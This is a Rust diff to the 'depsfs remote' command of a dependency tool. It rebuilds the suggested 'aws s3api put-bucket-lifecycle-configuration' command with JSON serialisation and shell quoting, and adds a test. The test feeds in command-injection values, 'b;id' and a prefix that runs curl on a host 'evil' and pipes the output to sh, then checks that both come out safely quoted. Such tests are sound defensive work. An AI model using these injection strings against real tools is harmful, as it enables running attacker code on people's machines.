@@ -1,6 +1,9 @@
 //! `depsfs remote`: the object stores of a team.
 
+use std::path::Path;
+
 use clap::{Args, Subcommand};
+use serde_json::json;
 
 use super::answers::{RemoteAnswer, RemoteCheckAnswer, RemoteInitAnswer, RemoteListAnswer, RemotePruneAnswer};
 use super::confirm::confirm;
@@ -10,10 +13,10 @@ use super::report::Failure;
 use super::{approve, places};
 use crate::component::{Components, load};
 use crate::git::checkout::Checkout;
-use crate::remote::{OpenRemote, RemoteError, RemoteSpec};
+use crate::remote::{Address, OpenRemote, RemoteError, RemoteSpec};
 use crate::sys::fs::Timespec;
 use crate::sys::interrupt;
-use crate::sys::terminal::DisplayName;
+use crate::sys::terminal::{DisplayName, shell_word};
 
 const EXAMPLES: &str = "Examples:
   depsfs remote list
@@ -126,20 +129,23 @@ fn init(spec: &RemoteSpec, keep_days: u32) -> Result<(), Failure> {
 
 /// The rule by which a bucket deletes old objects.
 fn rule(spec: &RemoteSpec, keep_days: u32) -> String {
-    let Some(rest) = spec.url.strip_prefix("s3://") else {
-        return format!("  old:      depsfs remote prune deletes what is older than {keep_days} days\n");
-    };
-    let (bucket, prefix) = rest.split_once('/').unwrap_or((rest, ""));
-    let prefix =
-        if prefix.is_empty() { "depsfs/1/".to_owned() } else { format!("{}/depsfs/1/", prefix.trim_matches('/')) };
-    let rule = format!(
-        "{{\"Rules\":[{{\"ID\":\"depsfs\",\"Status\":\"Enabled\",\"Filter\":{{\"And\":{{\"Prefix\":\"{prefix}\",\
-         \"ObjectSizeGreaterThan\":64}}}},\"Expiration\":{{\"Days\":{keep_days}}}}}]}}"
-    );
-    format!(
-        "  old:      this rule deletes what is older; remote.json is too small for it, and stays:\n  aws s3api \
-         put-bucket-lifecycle-configuration --bucket {bucket} --lifecycle-configuration '{rule}'\n"
-    )
+    match Address::parse(&spec.url) {
+        Ok(Address::S3 { bucket, prefix }) => format!(
+            "  old:      this rule deletes what is older; remote.json is too small for it, and stays:\n  {}\n",
+            lifecycle_command(&bucket, &prefix, keep_days)
+        ),
+        _ => format!("  old:      depsfs remote prune deletes what is older than {keep_days} days\n"),
+    }
+}
+
+/// The command that gives a bucket this rule, for a shell: the names come from the repository's `depsfs.toml`.
+fn lifecycle_command(bucket: &str, prefix: &str, keep_days: u32) -> String {
+    let prefix = [prefix, "depsfs/1/"].join("/");
+    let filter = json!({"And": {"Prefix": prefix.trim_start_matches('/'), "ObjectSizeGreaterThan": 64}});
+    let rule = json!({"ID": "depsfs", "Status": "Enabled", "Filter": filter, "Expiration": {"Days": keep_days}});
+    let rules = json!({"Rules": [rule]}).to_string();
+    let (bucket, rules) = (shell_word(Path::new(bucket)), shell_word(Path::new(&rules)));
+    format!("aws s3api put-bucket-lifecycle-configuration --bucket {bucket} --lifecycle-configuration {rules}")
 }
 
 fn check(spec: &RemoteSpec) -> Result<(), Failure> {
@@ -208,4 +214,22 @@ fn prune(spec: &RemoteSpec, dry_run: bool) -> Result<(), Failure> {
     let answer = RemotePruneAnswer { dry_run, objects: pruned.objects, bytes: pruned.bytes };
     let text = || format!("deleted {}, {}\n", count(pruned.objects, "object"), size(pruned.bytes));
     output::done_answer("the remote was pruned", &answer, text)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn the_rule_of_a_bucket_is_json_in_one_word_of_a_shell() {
+        let filter = r#"{"And":{"ObjectSizeGreaterThan":64,"Prefix":"a/depsfs/1/"}}"#;
+        let rule = format!(r#"{{"Expiration":{{"Days":90}},"Filter":{filter},"ID":"depsfs","Status":"Enabled"}}"#);
+        let spec = |url: &str| RemoteSpec { url: url.into(), ..RemoteSpec::default() };
+        let text = super::rule(&spec("s3://b/a/"), 90);
+        let word = format!("--bucket b --lifecycle-configuration '{{\"Rules\":[{rule}]}}'\n");
+        assert!(text.ends_with(&word), "{text} is without {word}");
+        let hostile = lifecycle_command("b;id", "x';curl${IFS}evil|sh;'\"", 90);
+        assert!(hostile.contains("--bucket 'b;id' ") && hostile.contains(r#"x'\'';curl${IFS}evil|sh;'\''\"/depsfs"#));
+        assert!(super::rule(&spec("file:///srv/x"), 90).contains("depsfs remote prune"));
+    }
 }
